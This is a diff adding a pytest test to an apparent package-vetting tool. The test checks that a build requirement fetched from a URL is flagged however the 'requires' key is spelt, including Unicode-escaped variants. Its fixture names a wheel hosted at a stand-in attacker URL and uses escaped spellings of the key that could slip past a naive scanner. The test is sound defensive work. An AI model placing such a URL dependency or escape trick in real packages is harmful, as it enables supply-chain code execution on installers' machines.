@@ -92,3 +92,22 @@ def test_an_error_is_not_remembered(monkeypatch: pytest.MonkeyPatch) -> None:
         with pytest.raises(RecursionError):
             pyproject_table(deep)
     assert len(seen) == 2
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        '"requires"',
+        '"req\\u0075ires"',  # the same key to every TOML reader
+        '"\\U00000072equires"',
+    ],
+)
+def test_a_build_requirement_fetched_from_a_url_is_read_however_its_key_is_spelt(
+    key: str,
+) -> None:
+    pyproject = f'[build-system]\n{key} = ["evhelper @ https://attacker.invalid/h.whl"]\n'
+    assert tomllib.loads(pyproject)["build-system"]["requires"]  # the key is ``requires``
+    files = {"pyproject.toml": pyproject, "evpkg/__init__.py": "x = 1\n"}
+    report = vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files))
+    assert "url-dependency" in {f.rule for f in report.findings}, report.to_json()
+    assert report.verdict is not Outcome.ALLOW
